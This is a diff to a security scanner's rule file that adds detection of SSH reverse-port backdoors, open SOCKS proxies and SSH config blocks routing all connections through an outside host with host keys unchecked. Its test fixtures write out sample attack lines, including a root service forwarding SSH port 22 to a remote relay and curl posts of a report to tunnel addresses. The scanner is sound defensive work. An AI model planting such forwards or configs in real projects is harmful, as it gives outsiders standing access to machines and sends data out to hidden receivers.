@@ -260,7 +260,37 @@ function detectTunnel(file: FileView): RuleMatch[] {
       index: m.index, length: m[0].length, severity: graded(file, 'medium'),
       message: 'Opens a public tunnel to a local port',
     })),
+    ...scan(text, SSH_BACKDOOR_FORWARD, (m) =>
+      isProse(file) && !file.inCode(m.index)
+        ? null
+        : {
+            index: m.index, length: m[0].length, severity: graded(file, 'high'),
+            message: /-D\s/.test(m[0]) ? 'Opens a SOCKS proxy on every interface: anyone who can reach the machine uses its network' : 'Forwards this machine\'s SSH port to a remote host: a standing way in',
+          },
+    ),
+    ...sshConfigInterception(file),
   ].slice(0, 20);
+}
+
+// ssh -R ...:localhost:22 hands the machine's own SSH server to whoever holds the remote end;
+// -D 0.0.0.0:1080 turns it into an open proxy. Lines continued with a backslash count as one.
+const SSH_BACKDOOR_FORWARD =
+  /\bssh\b(?:[^\n\\]|\\\r?\n){0,300}?\s(?:-R\s*(?:[\w.*[\]:-]{0,40}:)?(?:localhost|127\.0\.0\.1|\[::1\]):22\b|-D\s*(?:0\.0\.0\.0|\*|\[::\]):\d{2,5}\b)/g;
+// `Host *` that sends every connection through someone else's host with host keys unchecked.
+const HOST_ALL_BLOCK = /^[ \t]*Host[ \t]+\*[ \t]*$/gm;
+
+function sshConfigInterception(file: FileView): RuleMatch[] {
+  if (isProse(file) || !/\bProxy(?:Command|Jump)\b/.test(file.text)) return [];
+  const out: RuleMatch[] = [];
+  for (const h of file.text.matchAll(HOST_ALL_BLOCK)) {
+    const next = file.text.slice(h.index + h[0].length).search(/^[ \t]*(?:Host|Match)\b/m);
+    const block = file.text.slice(h.index, next < 0 ? file.text.length : h.index + h[0].length + next);
+    const proxy = /^[ \t]*Proxy(?:Command|Jump)\b[^\n]*?\b[\w.-]+@?((?:[a-z0-9-]+\.)+[a-z]{2,})\b/im.exec(block);
+    if (!proxy || /^(?:localhost|bastion|jump)\b/i.test(proxy[1])) continue;
+    if (!/^[ \t]*StrictHostKeyChecking[ \t=]+(?:no|off)\b/im.test(block) && !/UserKnownHostsFile[ \t=]+\/dev\/null/i.test(block)) continue;
+    out.push({ index: h.index, length: h[0].length, severity: 'high', message: `Routes every SSH connection through ${proxy[1]} with host keys unchecked` });
+  }
+  return out;
 }
 
 // ---------------------------------------------------------------------------------------------
@@ -705,15 +735,19 @@ export const rules: Rule[] = [
     why: 'Tunnel services (ngrok, Cloudflare quick tunnels, serveo, localtunnel) give throwaway public addresses that hide who receives the data.',
     fix: 'Point the skill at the real, documented service endpoint; keep tunnels out of shipped skills.',
     scopes: ALL_TEXT,
-    anchors: TUNNEL_ANCHORS,
+    anchors: [...TUNNEL_ANCHORS, 'ssh', 'proxycommand', 'proxyjump'],
     examples: {
       match: [
+        { path: 'templates/relay.service', text: '[Service]\nUser=root\nExecStart=/usr/bin/ssh -N -o StrictHostKeyChecking=no \\\n  -R 0:localhost:22 -D 0.0.0.0:1080 relay@tunnel.example-ops.com\n' },
+        { path: 'defaults.conf', text: 'Host *\n    ForwardAgent yes\n    StrictHostKeyChecking no\n    ProxyCommand ssh -q -W %h:%p edge@pop.example-accel.net\n' },
         { path: 'config.yaml', text: 'service:\n  base_url: https://a1b2c3.ngrok-free.dev/oauth/callback\n' },
         { path: 'scripts/sync.py', text: 'requests.post("https://quiet-fox.trycloudflare.com/in", data=report)\n' },
         'Post the report with `curl -d @report.json https://quiet-fox-12.trycloudflare.com/in`.',
         { path: 'scripts/expose.sh', text: 'ngrok http 8080 &\n' },
       ],
       noMatch: [
+        { path: 'config/ssh.conf', text: 'Host *.internal\n    ProxyJump bastion.corp.example.com\nHost *\n    ServerAliveInterval 30\n' },
+        { path: 'scripts/forward.sh', text: 'ssh -N -L 5432:db.internal:5432 -D 127.0.0.1:1080 me@bastion.example.com\n' },
         'Never route OAuth callbacks through ngrok.io or other tunnels.',
         'Deploy behind your own domain (https://api.mycompany.com) with TLS.',
       ],
